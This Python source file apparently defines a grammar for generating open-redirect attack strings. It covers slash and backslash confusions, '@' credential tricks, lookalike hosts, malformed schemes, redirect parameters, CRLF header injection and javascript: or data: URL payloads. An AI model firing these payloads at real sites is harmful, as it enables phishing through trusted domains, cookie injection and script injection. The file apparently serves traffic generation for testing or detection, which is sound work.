"""Open redirects: addresses that look local, or like a trusted host, and lead elsewhere.

Confusions after the WHATWG URL Standard (backslashes, credentials, tabs) and RFC 3986.
"""

from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "good": (
        "‹word›.com", "www.‹word›.com", "example.com", "trusted.‹tld›", "‹word›.‹tld›", "localhost",
        "accounts.google.com", "login.‹word›.org",
    ),
    "x": (
        "‹evil›", "‹evil›", "evil.com", "google.com", "bing.com", "‹evil›/‹id›", "‹evil›/%2f..",
        "‹evil›/%2e%2e", "‹evil›/..;/css", "‹evil›?", "‹evil›%2f", "‹evil›/?‹good›",
    ),
    "slash": (
        "//", "///", "////", "/////", "/\\", "\\/", "\\\\", "/\\/", "\\/\\/", "//\\", "/%09/",
        "/%5c", "/%2f", "%2f%2f", "%5c%5c", "/%0d/", "/%0a/", "//%09/", "//%5c", "/\t/", "/./\\",
        "/.//", "/%2f%2f", "/〱", "//;@", "/%68%74%74%70%3a%2f%2f", "/‹abc›//../", "/%5c%5c",
        "\\x2f\\x2f", "/%01/", ".//", "/..//", "//%00/", "%09//", "/ /", "//%2f", "/;//",
    ),
    "at": (
        "@", "%40", "@@", "%2540", "\\@", ":80@", ":‹rnd›@", "#@", "?@", "/@", "%00@", "&@", ";@",
        "[@", ".@", "%20@",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    slashes=("‹slash›‹x›", "‹slash›‹x›", "‹slash›‹evil›/%2f%2e%2e", "‹slash›www.‹evil›"),
    credentials=(
        "‹scheme›://‹good›‹at›‹x›", "//‹good›‹at›‹x›", "‹slash›‹good›@‹x›", "https://‹good›%2f@‹x›",
        "‹good›@‹evil›", "@‹evil›/‹rnd›", ".‹evil›@‹rnd›", "//‹rnd›:‹rnd›@‹x›",
        "https:‹evil›@‹good›\\",
    ),
    lookalike=(
        "https://‹good›.‹evil›/", "https://‹evil›?‹good›", "https://‹evil›#‹good›",
        "https://‹evil›\\.‹good›", "https://‹evil›%23.‹good›", "https://‹evil›%00.‹good›",
        "//‹evil›;.‹good›", "https://‹evil›／.‹good›", "https://‹good›-‹rnd›.‹evil›:‹port›",
        "https://‹evil›%E3%80%82‹good›", "//‹evil›%E3%80%82com", "https://‹evil›\\‹good›",
        "//‹good›.‹evil›/%2e%2e", "https://‹evil›%ff.‹good›",
    ),
    malformed_scheme=(
        "http:‹evil›", "https:‹evil›/‹rnd›", "http:/‹x›", "https:///‹x›", "hTTps:/‹slash›‹x›",
        "http:\\\\‹x›", "https:/\\‹x›", "http:;@‹evil›", "%68ttp:///‹x›", "ht%0atps://‹x›",
        "http%3a%5c%5c‹x›", "http:%0d//‹x›", "h%09ttps://‹x›", "x:‹slash›‹x›", "////‹x›:80#‹abc›",
        "http://[::‹ip›]/‹abc›", "https:%5c‹x›", "http://‹evil›@‹good›:80#@‹x›",
    ),
    in_path=(
        "/redirect‹?¦/?›‹url¦u¦to¦next›=‹slash›‹x›",
        "/‹word›?‹return¦returnTo¦next¦goto¦dest¦continue¦redir¦redirect_uri¦ReturnUrl¦rurl¦"
        "target¦out¦view›=‹slash›‹x›",
        "/‹login¦logout¦sso¦oauth/authorize›?‹next¦redirect_uri¦"
        "ReturnUrl›=‹scheme›://‹good›‹at›‹x›",
        "/‹slash›‹x›/..", "/cgi-bin/redirect.cgi?‹slash›‹x›", "/‹id›;‹slash›‹x›",
        "?‹next¦url›=‹slash›‹x›", "/out?‹slash›‹x›", "/‹word›/‹slash›‹x›/%2f..",
    ),
    with_header=(
        "‹slash›‹x›/%0d%0aSet-Cookie:‹id›=‹rnd›", "/%0d%0aLocation:%20‹url›",
        "‹slash›‹x›%0d%0a‹abc›", "//‹evil›/‹rnd›\r\nLocation: ‹url›",
    ),
    script_targets=(
        "javascript://‹good›/%0aalert(‹n›)", "javascript://%250aalert(‹n›)//?‹rnd›",
        "/%09/javascript:alert(‹n›)", "//javascript:alert(‹n›)",
        "java%0d%0ascript%0d%0a:alert(‹n›)", "data:text/html;base64,‹b64s›#‹good›",
        "\\j\\av\\a\\s\\cr\\i\\pt\\:\\a\\l\\ert\\(‹n›\\)", "/javascript:location='//‹x›'",
        "<>//‹x›", "<>javascript:alert(‹n›);",
    ),
    numeric=(
        "//‹n8›.‹nn›", "http://0x‹hex8›/‹rnd›", "//0x‹hex8›",
        "http://0‹n8›.0‹n8›.0‹n8›.0‹n8›/‹abc›", "https://‹ip›\\@‹good›", "//[::ffff:‹ip›]/‹abc›",
        "//①②③.‹ip›", "//ⓔⓥⓘⓛ.ⓒⓞⓜ/‹id›",
    ),
)
